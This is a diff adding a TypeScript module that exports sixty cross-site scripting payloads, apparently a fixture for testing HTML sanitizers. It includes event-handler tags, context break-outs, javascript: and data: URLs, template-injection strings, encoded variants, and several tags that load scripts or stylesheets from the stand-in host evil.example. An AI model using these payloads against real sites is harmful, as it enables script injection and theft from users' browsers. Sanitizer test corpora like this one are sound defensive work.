@@ -1,0 +1,71 @@
+/** What a script in a text could look like: tags, attributes, addresses, and ways out of each place that a text stands in. */
+const CALL = "alert(document.domain)";
+
+const tags = [
+	"script",
+	"img src=x onerror",
+	"svg onload",
+	"body onload",
+	"iframe srcdoc",
+	"details open ontoggle",
+	"video src=x onerror",
+	"input autofocus onfocus",
+	"marquee onstart",
+	"object data",
+	"embed src",
+	"math href",
+];
+const opened = tags.map((tag) =>
+	tag.includes("=") || tag.includes(" on") ? `<${tag}=${CALL}>` : tag === "script" ? `<script>${CALL}</script>` : `<${tag}="javascript:${CALL}">x</${tag.split(" ")[0]}>`,
+);
+const ways = ['"', "'", "`", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>"];
+const brokenOut = ways.map((way) => `${way}<img src=x onerror=${CALL}>`);
+const attributes = [
+	`" onmouseover="${CALL}`,
+	`' autofocus onfocus='${CALL}`,
+	`" style="animation:x" onanimationstart="${CALL}`,
+	`x" onerror="${CALL}" src="x`,
+	`\` onload=\`${CALL}`,
+];
+const addresses = [
+	`javascript:${CALL}`,
+	`JaVaScRiPt:${CALL}`,
+	`java\tscript:${CALL}`,
+	`data:text/html,<script>${CALL}</script>`,
+	`vbscript:${CALL}`,
+	`//evil.example/x.js`,
+	`https://evil.example/${CALL}`,
+];
+const code = [
+	`";${CALL};//`,
+	`';${CALL};//`,
+	`\\";${CALL};//`,
+	`\${${CALL}}`,
+	`{{constructor.constructor('${CALL}')()}}`,
+	`{{7*7}}`,
+	`</script><script>${CALL}</script>`,
+	`\u2028${CALL}\u2028`,
+	`*/${CALL}/*`,
+	`<!--<script>${CALL}`,
+];
+const written = [
+	`[x](javascript:${CALL})`,
+	`![x](x" onerror="${CALL})`,
+	`<a href="javascript:${CALL}">x</a>`,
+	`&lt;script&gt;${CALL}&lt;/script&gt;`,
+	`&#60;script&#62;${CALL}`,
+	`%3Cscript%3E${CALL}%3C/script%3E`,
+];
+const others = [
+	`<base href="https://evil.example/">`,
+	`<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
+	`<link rel="stylesheet" href="https://evil.example/x.css">`,
+	`<form action="javascript:${CALL}"><button>x</button></form>`,
+	`<style>@import 'https://evil.example/x.css'</style>`,
+	`<script src="https://evil.example/x.js"></script>`,
+	`<scr<script>ipt>${CALL}</script>`,
+	`<img src="x" ONERROR=${CALL} a='`,
+];
+
+/** Sixty of them. */
+export const PAYLOADS: readonly string[] = [...opened, ...brokenOut, ...attributes, ...addresses, ...code, ...written, ...others];
